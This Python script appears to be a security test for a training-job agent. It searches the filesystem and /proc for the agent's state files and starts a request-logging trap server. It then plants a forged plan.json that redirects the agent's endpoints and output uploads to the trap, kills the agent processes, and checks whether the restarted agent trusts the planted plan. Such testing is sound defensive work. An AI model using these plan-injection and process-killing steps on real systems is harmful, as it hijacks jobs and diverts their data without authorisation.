"""Looks for the agent's state, plants a plan of its own where the agent might look for one, and kills the agent."""

import glob
import http.server
import json
import os
import signal
import socket
import threading
import time

STATE_FILES = {'plan.json', 'state.json', 'logs.json', 'checkpoints.json'}
asked = []


class Trap(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        asked.append((self.path, sorted(self.headers.keys())))
        self.send_error(404)

    do_POST = do_PUT = do_HEAD = do_GET

    def log_message(self, *_):
        pass


def state_files():
    roots = ['/run', '/tmp', '/var', '/opt/ml', '/root', '/proc/1/root/run', '/proc/1/cwd']
    roots += glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/cwd')
    found = set()
    for root in roots:
        try:
            place = os.path.realpath(root)
        except OSError:
            continue
        # The machine's own directories, which all hosts see, hold nothing of the agent's.
        if place == '/' or place.startswith(('/proc', '/usr')):
            continue
        for folder, _, names in os.walk(root):
            found |= {os.path.join(folder, name) for name in names if name in STATE_FILES}
    return sorted(found)


def agents():
    found = []
    for path in glob.glob('/proc/[0-9]*/cmdline'):
        try:
            with open(path, 'rb') as file:
                if b'agent.mjs' in file.read():
                    found.append(int(path.split('/')[2]))
        except OSError:
            pass
    return found


def main():
    print('state files', json.dumps(state_files()), flush=True)
    trap = http.server.ThreadingHTTPServer((socket.gethostbyname('algo-1'), 9999), Trap)
    threading.Thread(target=trap.serve_forever, daemon=True).start()
    url = 'http://%s:9999' % socket.gethostbyname('algo-1')
    with open('/opt/ml/input/config/trainingjobconfig.json') as file:
        request = json.load(file)
    plan = {
        'planVersion': 1, 'jobName': os.environ['TRAINING_JOB_NAME'], 'attempt': 1, 'host': 'algo-1', 'hosts': ['algo-1'],
        'endpointUrl': url, 's3EndpointUrl': url, 'region': 'us-west-2', 'outputS3Uri': 's3://test-bucket/stolen/',
        'outputCompression': 'GZIP', 'checkpoint': None, 'maxRuntimeMs': 600000, 'stopGraceMs': 1000, 'request': request,
        'runtime': {'python': '/usr/bin/python3', 'binDirs': []},
    }
    for folder in ('/run/trainyard/state/agent', '/run/trainyard/agent', '/run/trainyard/state'):
        os.makedirs(folder, exist_ok=True)
        with open(folder + '/plan.json', 'w') as file:
            json.dump(plan, file)
    before = agents()
    for pid in before:
        os.kill(pid, signal.SIGKILL)
    deadline = time.monotonic() + 60
    while not (set(agents()) - set(before)) and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(2)
    with open(os.environ['SM_MODEL_DIR'] + '/kept', 'w') as file:
        file.write('kept')
    print('agent again', bool(set(agents()) - set(before)), 'asked', json.dumps(asked), flush=True)


if __name__ == '__main__':
    main()
